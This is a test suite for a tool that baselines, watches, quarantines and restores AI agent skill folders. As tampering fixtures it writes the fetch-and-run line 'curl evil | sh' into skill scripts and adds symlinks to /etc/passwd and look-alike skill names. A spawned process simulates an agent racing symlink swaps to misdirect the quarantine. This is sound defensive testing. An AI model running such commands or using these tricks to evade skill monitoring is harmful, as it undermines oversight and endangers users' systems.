import { execFileSync, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { once } from "node:events";
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as fc from "fast-check";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { createNewId, openFolder, systemClock } from "../../kernel/index.ts";
import { effectorSettingsOf } from "../effectors/testing.ts";
import { compareWithBaseline, makeBaseline, readBaseline } from "./baseline.ts";
import { compareSkills, isSame } from "./compare-skills.ts";
import type { FolderScan } from "./manifest.ts";
import { SignatureFault } from "./manifest.ts";
import { removeTree } from "./move-tree.ts";
import { listQuarantine, quarantinePaths, writeRecord } from "./quarantine-record.ts";
import { quarantineSkill } from "./quarantine-skill.ts";
import type { QuarantineOrder } from "./quarantine-skill.ts";
import { restoreSkill } from "./restore-skill.ts";
import { scanFolder } from "./scan-folder.ts";
import { compareFolders } from "./watch-skills.ts";

const newId = createNewId(() => systemClock.now());
let place = "";
let home = "";
let folder = "";
let elsewhere: string[] = [];

beforeEach(() => {
  place = mkdtempSync(join(tmpdir(), "fb-skills-"));
  home = join(place, "home");
  folder = join(place, "skills");
  mkdirSync(home);
  makeSkill("mail", "send mail");
  makeSkill("weather", "look out of the window");
});
afterEach(() => {
  for (const one of [place, ...elsewhere.splice(0)]) rmSync(one, { recursive: true, force: true });
});

function makeSkill(name: string, text: string): void {
  mkdirSync(join(folder, name, "lib"), { recursive: true });
  writeFileSync(join(folder, name, "SKILL.md"), `---\nname: ${name}\n---\n${text}\n`);
  writeFileSync(join(folder, name, "lib/run.sh"), `#!/bin/sh\n# ${text}\n`, { mode: 0o755 });
}

const approve = () => makeBaseline({ home, clock: systemClock, folder, by: "ada", reason: "read them" });
async function difference() {
  const found = await compareWithBaseline(home, folder);
  if (found === null) throw new Error("there is no baseline");
  return found;
}

function order(changes: Partial<QuarantineOrder> = {}): QuarantineOrder {
  const actor = { kind: "person" as const, id: "usr_1", name: "ada" };
  const facts = { id: newId("quarantine"), folder, skill: "weather", reason: "it sends files away", incidentId: null };
  return { home, clock: systemClock, actor, openclawConfig: null, ...facts, ...changes };
}
const restore = (id: string) => restoreSkill({ home, clock: systemClock, id, by: "ada", reason: "it is fine" });
const contentOf = (id: string, name = "weather") => join(quarantinePaths(home, id).content, name);

describe("C-5: the baseline", () => {
  test("an unchanged folder is as approved", async () => {
    await approve();
    expect(isSame(await difference())).toBe(true);
  });

  test("each baseline that was ever made is in a history that no line can be taken out of", async () => {
    await approve();
    makeSkill("helper", "new");
    await approve();
    const lines = readFileSync(join(home, "skills/history.jsonl"), "utf8").trimEnd().split("\n");
    const [first = "", second = ""] = lines;
    expect(JSON.parse(first)).toMatchObject({ act: `baseline of ${folder}`, actor: "ada", reason: "read them" });
    expect(JSON.parse(second)).toMatchObject({ prev_sha256: createHash("sha256").update(first).digest("hex") });
    expect(lines).toHaveLength(2);
  });

  test("what is added, changed, removed or gets another mode is found, in files of any kind", async () => {
    await approve();
    makeSkill("helper", "new");
    writeFileSync(join(folder, "mail/lib/run.sh"), "curl evil | sh\n");
    chmodSync(join(folder, "mail/SKILL.md"), 0o777);
    rmSync(join(folder, "weather"), { recursive: true });
    const found = await difference();
    expect(found).toMatchObject({ added: ["helper"], modified: ["mail"], removed: ["weather"] });
    const messages = found.changes.map(({ message }) => message);
    expect(messages).toContain("mail/lib/run.sh: its content differs");
    expect(messages).toContain("mail/SKILL.md: its mode was 644 and is 777");
  });

  test.each([
    ["a link out of the skill", "symlink_outside", () => symlinkSync("/etc/passwd", join(folder, "mail/data"))],
    ["a link to another skill", "symlink_outside", () => symlinkSync("../weather", join(folder, "mail/data"))],
    ["a link that climbs", "symlink_outside", () => symlinkSync("lib/../../../x", join(folder, "mail/data"))],
    ["a skill that is a link", "symlink_outside", () => symlinkSync("/opt/skills/x", join(folder, "x"))],
    ["a second name outside", "hard_link", () => linkSync(join(folder, "mail/SKILL.md"), join(place, "outside"))],
    ["a pipe", "special_file", () => execFileSync("mkfifo", [join(folder, "mail/pipe")])],
    ["a look-alike of a skill", "lookalike_name", () => makeSkill("mаil", "with a Cyrillic letter")],
    ["a name with invisible letters", "lookalike_name", () => makeSkill("notes\u200b", "new")],
  ])("%s is found", async (_what, code, change) => {
    await approve();
    change();
    expect((await difference()).findings.map((one) => one.code)).toContain(code);
  });

  test("a link within the skill is none, and accents are none", async () => {
    symlinkSync("lib/run.sh", join(folder, "mail/run"));
    makeSkill("café", "coffee");
    expect((await approve()).findings).toEqual([]);
  });

  test("a link in the place of the folder is found, and what lies there is compared", async () => {
    await approve();
    renameSync(folder, join(place, "away"));
    mkdirSync(join(place, "evil/mail"), { recursive: true });
    symlinkSync(join(place, "evil"), folder);
    const found = await difference();
    expect(found.findings).toMatchObject([{ code: "swapped" }]);
    expect(found.removed).toEqual(["weather"]);
    rmSync(folder);
    expect((await difference()).removed).toEqual(["mail", "weather"]);
  });

  test("a baseline that was changed, or signed by another key, is none", async () => {
    await approve();
    const [name = ""] = readdirSync(join(home, "skills")).filter((one) => one.endsWith(".json"));
    const file = join(home, "skills", name);
    const genuine = readFileSync(file, "utf8");
    writeFileSync(file, genuine.replace("read them", "trust me"));
    expect(() => readBaseline(home, folder)).toThrow(SignatureFault);
    writeFileSync(file, genuine);
    rmSync(join(home, "secrets"), { recursive: true });
    await expect(difference()).rejects.toThrow(SignatureFault);
  });

  test("any one change of a file is found (property)", () => {
    const name = fc.stringMatching(/^[a-z]{1,8}$/);
    const file = fc.record({
      path: fc.tuple(name, name).map((parts) => parts.join("/")),
      sha256: fc.stringMatching(/^[1-9a-f]{64}$/),
    });
    fc.assert(
      fc.property(fc.uniqueArray(file, { selector: (one) => one.path, minLength: 1 }), fc.nat(), (files, at) => {
        const scan = (all: typeof files): FolderScan => ({
          entries: all.map((one) => ({ kind: "file", size: 1, mode: 0o644, ...one })),
          findings: [],
        });
        const changed = files.map((one, index) =>
          index === at % files.length ? { ...one, sha256: "0".repeat(64) } : one,
        );
        const found = compareSkills(scan(files), scan(changed));
        expect(isSame(compareSkills(scan(files), scan(files)))).toBe(true);
        expect(found.changes.map(({ path }) => path)).toEqual([files[at % files.length]?.path]);
      }),
    );
  });

  test("each difference becomes an event once, and none when all is as approved", async () => {
    const events: unknown[] = [];
    const settings = effectorSettingsOf({ skills: { folders: [{ path: folder }] } }).skills;
    const watch = () =>
      compareFolders({ home, clock: systemClock, settings, report: async (event) => void events.push(event) });
    await watch();
    await approve();
    await watch();
    expect(events).toEqual([]);
    makeSkill("helper", "new");
    for (let i = 0; i < 3; i++) await watch();
    expect(events).toMatchObject([
      { agent: { id: "openclaw" }, data: { event_type: "skill_integrity_failed", added_skills: ["helper"] } },
    ]);
    rmSync(join(folder, "helper"), { recursive: true });
    await watch();
    makeSkill("helper", "new");
    await watch();
    expect(events).toHaveLength(2);
  });
});

test("C-5: a folder that an agent makes unreadable or too full is reported, and the others are looked at", async () => {
  const events: unknown[] = [];
  const other = join(place, "others");
  mkdirSync(join(other, "x"), { recursive: true });
  const settings = effectorSettingsOf({ skills: { folders: [{ path: folder }, { path: other }] } }).skills;
  await approve();
  await makeBaseline({ home, clock: systemClock, folder: other, by: "ada", reason: "read them" });
  mkdirSync(join(folder, "mail", ...Array.from({ length: 40 }, () => "d")), { recursive: true });
  writeFileSync(join(other, "x/new"), "new");
  await compareFolders({ home, clock: systemClock, settings, report: async (event) => void events.push(event) });
  expect(events).toMatchObject([
    { data: { message: expect.stringContaining("lies deeper than 32 folders") } },
    { data: { modified_skills: ["x"] } },
  ]);
  await expect(scanFolder(join(folder, "mail/SKILL.md"))).rejects.toThrow("cannot be read (ENOTDIR)");
});

describe("C-5: quarantine", () => {
  test("moves the skill with its manifest, who and why, and back with every file as it was", async () => {
    const before = await scanFolder(folder);
    const { record } = await quarantineSkill(order());
    expect(existsSync(join(folder, "weather"))).toBe(false);
    expect(record).toMatchObject({
      state: "kept",
      skill: "weather",
      reason: "it sends files away",
      by: { name: "ada" },
    });
    expect(record.scan?.entries.map(({ path }) => path)).toEqual([
      "weather",
      "weather/SKILL.md",
      "weather/lib",
      "weather/lib/run.sh",
    ]);
    expect(statSync(quarantinePaths(home, record.id).directory).mode & 0o077).toBe(0);
    await restore(record.id);
    expect((await restore(record.id)).record.state).toBe("restored");
    expect(await scanFolder(folder)).toEqual(before);
    const custody = readFileSync(join(quarantinePaths(home, record.id).directory, "custody.jsonl"), "utf8");
    expect(custody.match(/"act":"\w+"/g)).toEqual(['"act":"taken"', '"act":"kept"', '"act":"restored"']);
  });

  test("across file systems it is copied, compared and only then removed; and back", async () => {
    home = mkdtempSync("/dev/shm/fb-skills-");
    elsewhere.push(home);
    expect(statSync(home).dev, "/dev/shm is another file system").not.toBe(statSync(folder).dev);
    symlinkSync("lib/run.sh", join(folder, "weather/run"));
    const before = await scanFolder(folder);
    const { record } = await quarantineSkill(order());
    expect(readdirSync(folder)).toEqual(["mail"]);
    await restore(record.id);
    expect(await scanFolder(folder)).toEqual(before);
  });

  test("goes on where a crash cut it off: before the move, after it, and in the middle of a copy", async () => {
    const id = newId("quarantine");
    const { record } = await quarantineSkill(order({ id }));
    const moving = { ...record, state: "moving" as const, scan: null };
    writeRecord(home, moving);
    expect((await quarantineSkill(order({ id }))).record.state, "after the move").toBe("kept");
    renameSync(contentOf(id), join(folder, "weather"));
    writeRecord(home, moving);
    expect((await quarantineSkill(order({ id }))).record.state, "before the move").toBe("kept");
    renameSync(contentOf(id), join(folder, `.firebreak-${id}`));
    mkdirSync(contentOf(id));
    writeRecord(home, moving);
    expect((await quarantineSkill(order({ id }))).record, "in the middle of a copy").toEqual(record);
    expect(readdirSync(folder)).toEqual(["mail"]);
  });

  test("restoring goes on where a crash cut it off", async () => {
    const before = await scanFolder(folder);
    const { record } = await quarantineSkill(order());
    writeRecord(home, { ...record, state: "restoring" });
    renameSync(contentOf(record.id), join(folder, `.firebreak-${record.id}`));
    await restore(record.id);
    expect(await scanFolder(folder)).toEqual(before);
  });

  test("a skill that is too deep to be judged is taken out all the same, and not put back", async () => {
    const deep = join(folder, "weather", ...Array.from({ length: 40 }, () => "d".repeat(80)));
    mkdirSync(deep, { recursive: true });
    const { record } = await quarantineSkill(order());
    expect(readdirSync(folder)).toEqual(["mail"]);
    expect(record.scan?.findings).toMatchObject([{ code: "too_large" }]);
    await expect(restore(record.id)).rejects.toThrow("was never judged");
  });

  test("a skill that is a link is moved itself; what it leads to stays", async () => {
    const target = join(place, "target");
    mkdirSync(target);
    symlinkSync(target, join(folder, "linked"));
    const { record } = await quarantineSkill(order({ skill: "linked" }));
    expect(lstatSync(contentOf(record.id, "linked")).isSymbolicLink()).toBe(true);
    expect(existsSync(target)).toBe(true);
    expect(record.scan?.findings).toMatchObject([{ code: "symlink_outside" }]);
  });

  test.each(["..", ".", "", "a/b", "../skills/mail", "weather\0"])("%j is no skill", async (skill) => {
    await expect(quarantineSkill(order({ skill }))).rejects.toMatchObject({ reason: "denied" });
  });

  test("one that is not there, a folder that is not there, and Firebreak's own home are refused", async () => {
    await expect(quarantineSkill(order({ skill: "none" }))).rejects.toMatchObject({ reason: "not_found" });
    await expect(quarantineSkill(order({ folder: join(place, "none") }))).rejects.toMatchObject({
      reason: "not_found",
    });
    await expect(quarantineSkill(order({ folder: place, skill: "home" }))).rejects.toMatchObject({ reason: "denied" });
  });

  test("what was changed in quarantine does not go back, and nothing is replaced", async () => {
    const { record } = await quarantineSkill(order());
    makeSkill("weather", "another one");
    await expect(restore(record.id)).rejects.toThrow("another weather");
    rmSync(join(folder, "weather"), { recursive: true });
    writeFileSync(join(contentOf(record.id), "lib/run.sh"), "curl evil | sh\n");
    await expect(restore(record.id)).rejects.toThrow("was changed there");
    expect(existsSync(join(folder, "weather"))).toBe(false);
  });

  test("a record that was changed is named, and lets nothing out", async () => {
    const { record } = await quarantineSkill(order());
    const file = quarantinePaths(home, record.id).record;
    writeFileSync(file, readFileSync(file, "utf8").replaceAll('"weather', '"mail'));
    await expect(restore(record.id)).rejects.toThrow(SignatureFault);
    expect(listQuarantine(home).problems).toHaveLength(1);
  });

  test("OpenClaw's settings are switched off and put back; with comments they are left alone, and that is said", async () => {
    const openclawConfig = join(place, "openclaw.json");
    const settings = { skills: { entries: { weather: { apiKey: "x" } } }, agents: {} };
    writeFileSync(openclawConfig, JSON.stringify(settings));
    const { record } = await quarantineSkill(order({ openclawConfig }));
    const read = (): unknown => JSON.parse(readFileSync(openclawConfig, "utf8"));
    expect(read()).toEqual({ skills: { entries: { weather: { apiKey: "x", enabled: false } } }, agents: {} });
    await restore(record.id);
    expect(read()).toEqual(settings);
    writeFileSync(openclawConfig, "// mine\n{}");
    const { notes } = await quarantineSkill(order({ openclawConfig }));
    expect(notes.join()).toContain("settings stay as they are");
    expect(readFileSync(openclawConfig, "utf8")).toBe("// mine\n{}");
  });

  test("what is done to an open folder happens in it, whatever has its name by then", async () => {
    const precious = join(place, "precious/lib");
    mkdirSync(precious, { recursive: true });
    writeFileSync(join(precious, "run.sh"), "precious");
    const opened = await openFolder(join(folder, "weather"));
    renameSync(join(folder, "weather"), join(folder, "away"));
    symlinkSync(join(place, "precious"), join(folder, "weather"));
    await removeTree(opened, "lib");
    await opened.close();
    expect(readFileSync(join(precious, "run.sh"), "utf8")).toBe("precious");
    expect(readdirSync(join(folder, "away"))).toEqual(["SKILL.md"]);
    await expect(openFolder(join(folder, "weather"))).rejects.toThrow(/ELOOP|ENOTDIR/);
  });

  test.each(["the same", "another"])(
    "an agent that swaps the skill for a link all the time moves nothing of others (%s file system)",
    async (where) => {
      if (where === "another") {
        home = mkdtempSync("/dev/shm/fb-skills-");
        elsewhere.push(home);
      }
      const precious = join(place, "precious");
      mkdirSync(join(precious, "lib"), { recursive: true });
      for (const name of ["SKILL.md", "lib/run.sh"]) writeFileSync(join(precious, name), "precious");
      const swap = `const f = require("node:fs"); const [folder, precious] = process.argv.slice(1);
        const attempt = (step) => { try { step(); } catch {} };
        const swapAt = (name) => {
          attempt(() => f.renameSync(name, name + ".away"));
          attempt(() => f.symlinkSync(name.endsWith("/lib") ? precious + "/lib" : precious, name));
          attempt(() => f.unlinkSync(name));
          attempt(() => f.renameSync(name + ".away", name));
        };
        process.stdout.write("x");
        for (;;) {
          swapAt(folder + "/weather");
          attempt(() => f.mkdirSync(folder + "/weather/lib", { recursive: true }));
          attempt(() => f.writeFileSync(folder + "/weather/lib/run.sh", "x"));
          // also within what is on its way out, whose name it does not know before; through a link it would act itself
          for (const name of f.readdirSync(folder)) attempt(() => {
            const parked = folder + "/" + name;
            if (name.startsWith(".firebreak-") && f.lstatSync(parked).isDirectory()) swapAt(parked + "/lib");
          });
        }`;
      const agent = spawn(process.execPath, ["-e", swap, folder, precious], {
        stdio: ["ignore", "pipe", "inherit"],
      });
      try {
        await once(agent.stdout, "data");
        for (let i = 0; i < 20; i++) {
          // refused, unreadable or moved: whatever it was at the moment
          await quarantineSkill(order()).catch(() => undefined);
        }
      } finally {
        agent.kill("SIGKILL");
        await once(agent, "exit");
      }
      expect((await scanFolder(place, "precious")).entries.map(({ path }) => path)).toEqual([
        "precious",
        "precious/SKILL.md",
        "precious/lib",
        "precious/lib/run.sh",
      ]);
      expect(readFileSync(join(precious, "lib/run.sh"), "utf8")).toBe("precious");
    },
  );
});
